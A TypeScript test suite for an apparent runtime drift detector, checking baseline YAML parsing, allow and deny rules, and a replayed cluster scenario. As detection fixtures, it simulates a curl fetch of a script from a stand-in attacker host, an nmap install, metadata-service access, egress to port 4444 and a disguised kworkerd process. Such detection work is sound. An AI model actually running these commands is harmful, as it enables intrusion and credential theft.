import { copyFileSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import t from 'tap';
import { DeclaredBaselines, parseDeclaredFile } from '../../../collector/baselines/declared.js';
import { packagePath } from '../../../common/paths.js';
import { Replay, deviationKey, generateScenario } from '../../helpers/scenario.js';
import { MIN, T0, WEB, deviationList, exec, fixture, net } from '../../helpers/detection.js';

const HOUR = 60 * MIN;
const EXAMPLES = packagePath('baselines', 'examples');

const doc = (spec: string): string => `apiVersion: driftwatch.dev/v1
kind: Baseline
metadata:
  name: test
spec:
${spec}`;

t.test('the shipped examples are valid', async (t) => {
  for (const name of readdirSync(EXAMPLES).filter((n) => n.endsWith('.yaml'))) {
    const parsed = parseDeclaredFile(name, readFileSync(join(EXAMPLES, name), 'utf8'));
    t.notOk('errors' in parsed, name);
  }
});

t.test('invalid files are reported with file:line:column and the reason', async (t) => {
  const cases: [string, string, RegExp][] = [
    ['syntax', 'apiVersion: driftwatch.dev/v1\nkind: Baseline\nmetadata:\n  name: x\n spec: [', /^syntax\.yaml:\d+:\d+: /],
    ['unknown key', doc('  selector: { namespace: shop }\n  allow:\n    processes:\n      - path: /bin/x\n        argz: ["-c"]'), /^unknown key\.yaml:10:9: spec\.allow\.processes\.0\.argz: unknown key$/],
    ['bad cidr', doc('  selector: { namespace: shop }\n  allow:\n    network:\n      - direction: egress\n        cidrs: [10.0.0.0/8, 300.1.1.1/32]'), /^bad cidr\.yaml:10:29: spec\.allow\.network\.0\.cidrs\.1: not a CIDR or address: "300\.1\.1\.1\/32"$/],
    ['bad mode', doc('  selector: { namespace: shop }\n  mode: merge'), /^bad mode\.yaml:7:9: spec\.mode: must be one of "extend", "replace"$/],
    ['no selector', doc('  mode: extend'), /^no selector\.yaml:6:3: spec: selector is required$/],
    ['bad range', doc('  selector: { namespace: shop }\n  allow:\n    network:\n      - ports: ["90-80"]'), /^bad range\.yaml:9:17: spec\.allow\.network\.0\.ports\.0: invalid port range "90-80"$/],
  ];
  for (const [name, text, re] of cases) {
    const parsed = parseDeclaredFile(`${name}.yaml`, text);
    t.ok('errors' in parsed, name);
    if ('errors' in parsed) {
      const e = parsed.errors[0]!;
      t.match(`${e.file}:${e.line}:${e.column}: ${e.reason}`, re, name);
    }
  }
});

t.test('a broken file changes nothing: its last good version stays in force', async (t) => {
  const dir = t.testdir({ 'web.yaml': doc('  selector: { workload: web }\n  allow:\n    processes:\n      - path: /bin/allowed') });
  const d = new DeclaredBaselines({ dir });
  t.equal(d.reload().baselines, 1);
  t.equal(d.forWorkload(WEB).allow.processes[0]!.path, '/bin/allowed');
  writeFileSync(join(dir, 'web.yaml'), doc('  selector: { workload: web }\n  allow:\n    processes:\n      - path: /bin/other\n  bogus: 1'));
  const r = d.reload();
  t.equal(r.changed, false);
  t.equal(r.errors.length, 1);
  t.match(`${r.errors[0]!.file}:${r.errors[0]!.line}`, /web\.yaml:10$/);
  t.equal(d.forWorkload(WEB).allow.processes[0]!.path, '/bin/allowed', 'previous good set');
  t.same(d.errors(), r.errors);
});

t.test('extend adds to the learned baseline; replace is the whole baseline; deny always alerts', async (t) => {
  const dir = t.testdir({
    'extend.yaml': doc('  selector: { namespace: shop, workload: web }\n  allow:\n    processes:\n      - path: /usr/bin/curl\n        args: ["-s http://localhost:*/healthz"]\n    network:\n      - direction: egress\n        ports: [443]\n        cidrs: [203.0.113.0/24]'),
    'deny.yaml': doc('  selector: { namespace: "*" }\n  deny:\n    processes:\n      - path: /usr/bin/apt*\n    network:\n      - cidrs: [169.254.169.254/32]').replace('name: test', 'name: deny'),
  });
  const f = await fixture({ baselinesDir: dir });
  t.teardown(() => f.close());
  await f.feed(exec('/usr/sbin/nginx', { time: T0 }), exec('/usr/bin/apt-get', { time: T0 + 1, args: 'install -y nmap' }), net('egress', { time: T0 + 2, peer: '169.254.169.254', port: 80 }));
  t.same(deviationList(f), ['denied n|egress|tcp|80|ip|169.254.169.254 critical open', 'denied p|/usr/bin/apt-get critical open'], 'denied even while learning');
  await f.engine.unitOfWork.tick(T0 + 2 * HOUR);
  const at = T0 + 3 * HOUR;
  await f.feed(
    exec('/usr/bin/curl', { time: at, args: '-s http://localhost:8080/healthz' }),
    net('egress', { time: at, peer: '203.0.113.77', port: 443, exe: '/usr/bin/curl' }),
    exec('/usr/sbin/nginx', { time: at }),
  );
  t.equal(deviationList(f).length, 2, 'extend: declared items allowed, learned ones too');
  await f.feed(exec('/usr/bin/curl', { time: at + 1, args: '-s http://evil.example/x.sh' }));
  t.ok(deviationList(f).includes('process p|/usr/bin/curl high open'), 'argument patterns are matched strictly');
  t.ok(!(await f.engine.edge.forWorkloads([WEB]))[0]!.allow.includes('p|/usr/bin/curl'), 'arg-restricted exes are not dropped at the edge');
  t.ok((await f.engine.edge.forWorkloads([WEB]))[0]!.allow.includes('n|egress|tcp|443|net|203.0.113.0/24'), 'declared CIDR+port is');

  writeFileSync(join(dir, 'extend.yaml'), doc('  selector: { namespace: shop, workload: web }\n  mode: replace\n  allow:\n    processes:\n      - path: /usr/sbin/nginx'));
  t.ok(f.engine.reload().changed);
  const before = deviationList(f).length;
  await f.feed(exec('/usr/sbin/nginx', { time: at + 2 }), net('egress', { time: at + 3, peer: '203.0.113.77', port: 443 }));
  t.equal(deviationList(f).length, before + 1, 'replace: only what is declared');
  t.same((await f.engine.edge.forWorkloads([WEB]))[0]!.allow.filter((k) => !k.startsWith('i|')), ['p|/usr/sbin/nginx'], 'the edge holds only the declared set');
});

t.test('replace enforces from the first event; the directory is watched', async (t) => {
  const dir = t.testdir({});
  const f = await fixture({ baselinesDir: dir });
  t.teardown(() => f.close());
  await f.feed(exec('/learned', { time: T0 }));
  const pushed: string[][] = [];
  f.engine.edge.onChange((c) => pushed.push(...c.map((b) => b.allow)));
  writeFileSync(join(dir, 'web.yaml'), doc('  selector: { workload: web }\n  mode: replace\n  allow:\n    processes:\n      - path: /a'));
  // fs.watch + debounce: wait until the change has been picked up and pushed to the edge.
  const seen = await new Promise<boolean>((resolve) => {
    let tries = 0;
    const check = (): void => {
      if (pushed.some((allow) => allow.includes('p|/a') && !allow.includes('p|/learned'))) resolve(true);
      else if (++tries > 200) resolve(false);
      else setTimeout(check, 50);
    };
    check();
  });
  t.ok(seen, 'the change was picked up without a reload() call');
  if (!seen) f.engine.reload();
  await f.feed(exec('/a', { time: T0 + 1 }), exec('/b', { time: T0 + 2 }), exec('/learned', { time: T0 + 3 }));
  t.same(deviationList(f), ['process p|/b medium open', 'process p|/learned medium open'], 'no learning window under replace; learned items do not count');
});

t.test('on the recorded cluster, the shipped examples change the outcome as documented', async (t) => {
  const dir = t.testdir({});
  for (const name of ['deny-common.yaml', 'shop-api.yaml', 'shop-web.yaml']) copyFileSync(join(EXAMPLES, name), join(dir, name));
  const replay = new Replay({ baselinesDir: dir });
  t.teardown(() => replay.close());
  await replay.start();
  await replay.feed(generateScenario());
  const open = (await replay.deviations())
    .filter((d) => d.status === 'open')
    .map(deviationKey);
  t.same(open, [
    'demo/batch/CronJob/report/report denied p|/usr/bin/apt-get critical',
    'demo/kube-system/DaemonSet/log-agent/fluent-bit network n|egress|tcp|443|ip|10.96.0.1 high',
    'demo/shop/Deployment/api/api denied n|egress|tcp|80|ip|169.254.169.254 critical',
    'demo/shop/Deployment/api/api network n|listen|tcp|6060|- high',
    'demo/shop/Deployment/api/api process p|/tmp/.cache/kworkerd high',
    'demo/shop/Deployment/web/nginx network n|egress|tcp|4444|ip|198.51.100.66 high',
    'demo/shop/Deployment/web/nginx process p|/bin/bash high',
    'demo/shop/Deployment/web/nginx process p|/bin/sh high',
    'demo/shop/Deployment/web/nginx process p|/usr/bin/find medium',
    'demo/shop/StatefulSet/db/postgres interactive-session s| high',
  ]);
});
